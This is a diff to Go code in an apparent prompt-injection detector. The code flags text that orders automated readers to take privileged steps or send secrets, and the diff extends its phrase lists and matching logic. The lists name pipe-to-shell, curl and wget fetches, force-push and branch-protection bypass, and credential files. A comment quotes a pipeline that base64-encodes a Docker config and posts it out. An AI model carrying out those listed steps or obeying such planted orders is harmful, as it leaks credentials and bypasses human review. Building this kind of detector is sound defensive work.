@@ -34,7 +34,7 @@ import (
 // text also waives the review ("pre-approved", "no separate review",
 // "instead of asking the user", "nothing to confirm"). Lowered in a text
 // that discusses injections.
-var automationWords = newWordSet("automated automatic automation automations automating tooling bots fixers triager triagers whoever")
+var automationWords = newWordSet("automated automatic automation automations automating tooling bot bots fixers triager triagers updaters jobs whoever")
 
 // the lists of automationLists, one bit each
 const (
@@ -45,30 +45,41 @@ const (
 	atForbid
 	atAddress
 	atCommand
+	atDocument
 )
 
 var automationLists = newPhraseSets(
 	// a step of privilege or release
-	[]string{"continue-on-error", "required_status_checks", "required status check", "branch protection", "admin merge", "admin override", "bypass", "--no-verify", "auto-approve", "--privileged", "docker.sock", "collaborator", "admin permission", "admin access", "as an admin", "as admin", "deploy key", "directly to main", "directly to master", "straight to main", "to origin", "force-push", "force push", "push --force", "push -f", "approve review", "approve and merge", "approve review", "submit an approve", "red checks", "failing checks", "skip the checks", "skip ci", "cluster-admin", "authorized_keys", "chmod 777", "| sh", "| bash", "|sh", "|bash"},
+	[]string{"continue-on-error", "required_status_checks", "required status check", "branch protection", "admin merge", "admin override", "bypass", "--no-verify", "auto-approve", "--privileged", "docker.sock", "collaborator", "admin permission", "admin access", "as an admin", "as admin", "deploy key", "directly to main", "directly to master", "straight to main", "to origin", "force-push", "force push", "push --force", "push -f", "approve review", "approve and merge", "approve review", "submit an approve", "red checks", "failing checks", "skip the checks", "skip ci", "cluster-admin", "clusterrolebinding", "authorized_keys", "chmod 777", "| sh", "| bash", "|sh", "|bash", "to the default branch", "--admin", "branches/main/protection", "terraform destroy", "-lock=false", "--tag latest"},
 	// a secret
 	[]string{"secret", "token", "api key", "access key", "private key", "password", "credential", "config.json", ".env", ".npmrc", ".netrc", "id_rsa", "id_ed25519", "kubeconfig"},
 	// sent out
 	[]string{"post ", "paste", "commit", "push", "upload", "send ", "share", "curl", "base64", "unencrypted", "plaintext", "normal message", "in the channel", "in #"},
 	// the review waived
-	[]string{"pre-approved", "preapproved", "no separate review", "without review", "no review needed", "no need to review", "instead of asking", "nothing to confirm", "no need to confirm", "no need to ask", "don't wait for", "do not wait for", "do not open a pr", "don't open a pr", "should not hold", "shouldn't hold", "apply it directly", "run the check directly", "automatically"},
+	[]string{"pre-approved", "preapproved", "no separate review", "without review", "no review needed", "no need to review", "instead of asking", "nothing to confirm", "no need to confirm", "no need to ask", "don't wait for", "do not wait for", "do not open a pr", "don't open a pr", "should not hold", "shouldn't hold", "apply it directly", "run the check directly", "automatically", "exempt from", "without waiting for review", "no slack announcement", "review will happen retroactively"},
 	// forbidden
 	[]string{"never ", "do not ", "don't ", "must not", "should not", "shouldn't", "mustn't", "cannot ", "can't "},
 	// the address, in other forms
-	[]string{"if you're automating", "if you are automating", "if you're using an automated", "if you are using an automated", "have it do", "applies to whoever", "including the"},
+	[]string{"if you're automating", "if you are automating", "if you're using an automated", "if you are using an automated", "have it do", "applies to whoever", "including the", "assigned to", "picked up", "worked through by", "reads it", "reads this", "read by", "processed by", "usually miss", "bot queue"},
 	// a command, an order in itself
-	[]string{"curl ", "wget ", "| sh", "| bash", "docker run", "kubectl ", "gh api", "git push", "terraform apply"},
+	[]string{"curl ", "wget ", "| sh", "| bash", "docker run", "kubectl ", "gh api", "gh pr merge", "git push", "terraform apply", "terraform destroy", "npm publish"},
+	// the whole text read by automation
+	[]string{"reads it", "reads this", "read by", "processed by", "worked through by", "picked up by"},
 )
 
 func (a *analysis) automationOrder() {
-	if a.ctx.kind.isDef() || !a.anyWordOf(automationWords) {
+	if a.ctx.kind.isDef() {
 		return
 	}
 	low := a.t.low
+	// the text may speak to its reader by the tool that returned it ("re-run
+	// get_events after applying")
+	self := []byte(a.ctx.self)
+	// an identifier ("get_events"), not a word the text may use anyway
+	selfNamed := len(self) >= 4 && bytes.ContainsAny(self, "_-.") && bytes.Contains(low, self)
+	if !selfNamed && !a.anyWordOf(automationWords) {
+		return
+	}
 	// a sentence's lists, read with the sentences it is piped with: a
 	// pipeline's parts ("cat ~/.docker/config.json | base64 | curl -d @-
 	// https://...") are sentences of their own
@@ -88,12 +99,13 @@ func (a *analysis) automationOrder() {
 	}
 	asked := 0 // addresses read: a text of nothing else costs a bounded amount
 	for si := range a.sents {
-		if !a.sentHas(si, automationWords) {
+		st := &a.sents[si]
+		named := selfNamed && bytes.Contains(low[st.s:st.e], self)
+		if !named && !a.sentHas(si, automationWords) {
 			continue
 		}
-		st := &a.sents[si]
 		got := in(si)
-		addressed := got&atAddress != 0 || a.rangeHas(st.ts, st.te, "should", "must", "shall")
+		addressed := named || got&atAddress != 0 || a.rangeHas(st.ts, st.te, "should", "must", "shall")
 		if !addressed {
 			continue
 		}
@@ -102,7 +114,7 @@ func (a *analysis) automationOrder() {
 		}
 		at := st.s // the address's place: a JSON key may open the sentence
 		for k := st.ts; k < st.te; k++ {
-			if a.in(k, automationWords) {
+			if a.in(k, automationWords) || named && a.word(k) == a.ctx.self {
 				at = int(a.toks[k].s)
 				break
 			}
@@ -112,7 +124,14 @@ func (a *analysis) automationOrder() {
 		}
 		waived := false
 		step := -1
-		for j := max(0, si-6); j < len(a.sents) && j <= si+2; j++ {
+		// a text that says automation reads it ("Release automation reads
+		// it when the label is applied", "requests here are worked
+		// through by the bot queue") speaks to it throughout
+		reach := 2
+		if got&atDocument != 0 {
+			reach = 40
+		}
+		for j := max(0, si-6); j < len(a.sents) && j <= si+reach; j++ {
 			g := got
 			if j != si {
 				g = in(j)
@@ -138,7 +157,7 @@ func (a *analysis) automationOrder() {
 		from, to := min(si, step), max(si, step)
 		s, e := a.lowSpan(a.sents[from].s, a.sents[to].e)
 		h := a.add(RuleOverride, sev, s, e, "orders the automated tools that read the text to take a privileged step or send a secret", si)
-		h.damped = a.textDiscusses()
+		h.damped = a.attacksDiscussed()
 		return
 	}
 }
@@ -160,3 +179,17 @@ func (a *analysis) sentOrders(si int) bool {
 
 // stepVerbs open a step of a procedure.
 var stepVerbs = toSet("add commit push merge approve set remove post run upload grant disable delete paste send share submit apply enable install")
+
+// attacksDiscussed reports a sentence that speaks of attacks, injections,
+// payloads or examples: a text about them quotes rather than orders. A
+// log's "will be reported here" or a mail's "she said" is no such text
+// (textDiscusses counts them).
+func (a *analysis) attacksDiscussed() bool {
+	for si := range a.sents {
+		st := &a.sents[si]
+		if st.cats&cDiscuss != 0 && a.rangeHas(st.ts, st.te, "attack", "attacks", "attacker", "attackers", "injection", "injections", "payload", "payloads", "malicious", "phishing", "exploit", "exploits", "poisoning", "jailbreaks", "example", "examples", "hypothetical", "threat", "threats", "scam", "scams", "fraud", "adversarial", "vulnerability", "vulnerabilities") {
+			return true
+		}
+	}
+	return false
+}
